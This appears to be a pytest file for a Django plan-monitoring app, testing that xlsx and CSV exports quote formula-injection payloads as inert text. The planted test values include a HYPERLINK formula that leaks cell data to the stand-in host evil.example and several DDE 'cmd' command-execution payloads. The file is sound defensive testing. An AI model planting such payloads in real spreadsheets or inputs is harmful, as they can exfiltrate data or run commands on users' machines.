"""Formula injection: text a department typed or a plan printed comes out of every .xlsx and .csv as text.

A formula is planted where it can enter (a task's progress through the form, an observation's source and
note through the form and the API, an indicator's name from the plan), every export the office downloads
is opened, and no sheet may hold a formula: each planted text is there, as the words it was, marked as text.
"""

from __future__ import annotations

import csv
import re
import zipfile
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from planwatch.plan.sheet_text import csv_field, formula_like
from planwatch.report.completion import write_baseline
from planwatch.server.accounts.models import Department
from planwatch.server.api.models import ApiToken
from planwatch.server.tasks.models import Task
from tests.report_samples import sample_report

GDP = "地区生产总值增长"
PROGRESS = '=HYPERLINK("http://evil.example/?d="&A1,"详见附件")'
SOURCE = "=cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
API_SOURCE = "+1+cmd|' /C calc'!A0"
API_NOTE = "－1＋1"  # full-width signs, which Excel also takes
NAME = "=1+1&地区生产总值增长"
CHAPTER = "\t=2+3"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+cmd", "'-1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1＋1", "'＝1＋1"),
        ("＠A1", "'＠A1"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-12%", "-12%"),
        (-3.5, -3.5),
        ("地区生产总值", "地区生产总值"),
        ("1=1", "1=1"),
        ("", ""),
    ],
)
def test_a_csv_field_keeps_figures_and_quotes_formulas(value: object, written: object) -> None:
    assert csv_field(value) == written
    if isinstance(value, str):
        assert formula_like(value) is (written != value)


def formulas(data: bytes) -> list[str]:
    """The formulas any sheet of a workbook holds."""
    with zipfile.ZipFile(BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>", book.read(n).decode())]


def inert(data: bytes, *planted: str) -> None:
    """No formula in the workbook, and each planted text at the start of a text cell marked as typed text
    (a report adds the day to a progress report)."""
    assert formulas(data) == []
    book = openpyxl.load_workbook(BytesIO(data))
    texts = [c for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    for text in planted:
        found = [c for c in texts if c.value.startswith(text)]
        assert found, text
        assert {(c.data_type, c.quotePrefix) for c in found} == {("s", True)}, text


def download(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def member(django_user_model):
    """A member of the department that leads the plan's first task."""
    user = django_user_model.objects.create_user("keji", password="x" * 12)
    Department.objects.create(name="区科技局").members.add(user)
    return user


@pytest.fixture
def planted(client, plan, staff, member) -> Task:
    """Formulas typed in every field a user or a plan fills: returns the task whose progress holds one."""
    task = plan.tasks.order_by("pk").first()
    task.lead = member.departments.get()
    task.chapter = CHAPTER
    task.save()
    client.force_login(member)
    reported = client.post(
        reverse("tasks:report", args=[task.pk]), {"text": PROGRESS, "status": "in_progress"}
    )
    assert reported.status_code == 302
    client.force_login(staff)
    gdp = plan.indicators.get(name=GDP)
    form = reverse("monitoring:observation", args=[gdp.pk, 2024])
    assert client.post(form, {"value": "5.6", "source": SOURCE, "note": NOTE}).status_code == 302
    _, token = ApiToken.issue(staff, "test")
    added = client.post(
        f"/api/indicators/{gdp.pk}/observations",
        {"year": 2023, "value": 5.1, "source": API_SOURCE, "note": API_NOTE},
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert added.status_code == 201
    plan.indicators.filter(pk=gdp.pk).update(name=NAME)  # as a plan could print it
    return task


@pytest.mark.django_db
def test_the_task_export_holds_no_formula(client, plan, planted) -> None:
    data = download(client.get(reverse("tasks:export", args=[plan.pk])))
    inert(data, PROGRESS)


@pytest.mark.django_db
def test_the_report_holds_no_formula(client, plan, planted) -> None:
    url = reverse("reports:report", args=[plan.pk])
    data = download(client.get(url, {"format": "xlsx", "kind": "annual", "year": 2024}))
    inert(data, NAME, SOURCE, NOTE, API_SOURCE, API_NOTE, PROGRESS, CHAPTER)
    observations = openpyxl.load_workbook(BytesIO(data))["监测数据"]
    figures = [row for row in observations.iter_rows(min_row=2, values_only=True) if row[0] == NAME]
    assert (NAME, 2024, 5.6, SOURCE, NOTE) in figures and (NAME, 2023, 5.1, API_SOURCE, API_NOTE) in figures


@pytest.mark.django_db
def test_the_template_holds_no_formula(client, plan, planted) -> None:
    data = download(client.get(reverse("monitoring:template", args=[plan.pk])))
    inert(data, NAME)


def test_the_next_plans_baseline_quotes_formulas_and_keeps_figures(tmp_path: Path) -> None:
    final = sample_report("final")
    first = final.completion[0].model_copy(update={"name": NAME, "category": "@类别", "result": -3.5})
    report = final.model_copy(update={"completion": [first, *final.completion[1:]]})
    table = tmp_path / "baseline.csv"
    write_baseline(report, table)
    with table.open(encoding="utf-8-sig", newline="") as rows:
        row = next(r for r in list(csv.reader(rows))[1:] if r[2] == "'" + NAME)
    assert (row[1], row[5]) == ("'@类别", "-3.5")

    book = tmp_path / "baseline.xlsx"
    write_baseline(report, book)
    inert(book.read_bytes(), NAME, "@类别")
